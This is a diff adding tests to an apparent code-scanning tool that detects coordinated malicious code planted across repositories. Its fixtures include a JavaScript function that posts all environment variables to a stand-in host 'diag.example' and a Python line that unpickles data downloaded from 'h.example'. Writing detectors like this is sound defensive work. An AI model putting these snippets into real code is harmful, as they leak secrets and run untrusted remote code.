@@ -96,3 +96,53 @@ def test_clean_looking_first_copies_join_the_campaign_of_the_armed_ones():
     assert top.repos == ["r0", "r1", "r2", "r3", "r4"]
     assert {f.repo for f in top.findings} == {"r2", "r3", "r4"}
     assert not any(c.repos == ["r0", "r1"] for c in found), "the unarmed pair is not a campaign of its own"
+
+
+ARROW = '''const {name} = ({a}, {b}) => {{
+  const https = require("https");
+  const body = JSON.stringify({{ tag: {a}, env: process.env }});
+  const req = https.request({{ host: "diag.example", path: "/d", method: "POST" }});
+  req.end(body);
+  {b}(null);
+}};
+'''
+
+
+def test_a_javascript_arrow_function_is_a_unit_named_by_its_binding():
+    hosts = ["var x = 1;\nfunction keep(a) { return a + 1; }\n", "let y = [1, 2, 3].map((v) => v * 2);\n",
+             "module.exports = { ok: true };\n"]
+    names = [("sendDiag", "label", "done"), ("report", "tag", "cb"), ("ping", "l", "next")]
+    docs = [Document(path=f"lib/m{k}.js", content=(hosts[k] + "\n" + ARROW.format(name=n, a=a, b=b)).encode(),
+                     repo=f"r{k}") for k, (n, a, b) in enumerate(names)]
+    units = extract(languages.parser("javascript").parse(docs[0].content), docs[0].content, "javascript")
+    assert any(u.kind == "function" and u.name == "sendDiag" for u in units)
+    found = campaigns_from_documents(docs, findings=False)
+    top = next(c for c in found if c.kind == "function")
+    assert top.repos == ["r0", "r1", "r2"] and top.members[0]["line"] == 4
+
+
+def test_two_waves_of_planting_months_apart_still_look_coordinated():
+    from codescan.cluster.score import PLANTED, score
+    from codescan.records import Finding
+
+    dates = ["2024-03-04", "2024-03-06", "2024-06-10", "2024-06-12"]
+    members = [{"repo": f"o{k}/r{k}", "author": f"a{k}", "date": d, "commit": f"c{k}"} for k, d in enumerate(dates)]
+    found = [Finding(rule_id="x", category="insecure-deserialization", severity="high", message="m", path="p",
+                     line=1, end_line=1, repo=m["repo"]) for m in members]
+    value, reasons = score(members, found, 40, "block", None, 1.0)
+    assert value >= PLANTED and any("waves" in r for r in reasons)
+    spread = [{**m, "date": d} for m, d in zip(members, ["2021-01-04", "2021-09-06", "2022-06-10", "2023-02-12"])]
+    assert score(spread, found, 40, "block", None, 1.0)[0] < PLANTED
+
+
+def test_code_in_a_docstring_links_to_the_same_code_planted_as_code():
+    plain = "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('http://h.example/s').read())\n"
+    doc = ('def helper_x():\n    """Usage example:\n\n        import pickle, urllib.request\n'
+           "        obj = pickle.loads(urllib.request.urlopen('http://h.example/s').read())\n    \"\"\"\n    return None\n")
+    docs = [_doc("r0", plain, "0"), _doc("r1", plain.replace("obj", "val_x"), "1"), _doc("r2", doc, "2")]
+    found = campaigns_from_documents(docs, findings=True)
+    top = max(found, key=lambda c: len(c.repos))
+    assert top.repos == ["r0", "r1", "r2"]
+    inside = next(m for m in top.members if m["repo"] == "r2")
+    text = docs[2].content.decode().splitlines()
+    assert "import pickle" in text[inside["line"] - 1]
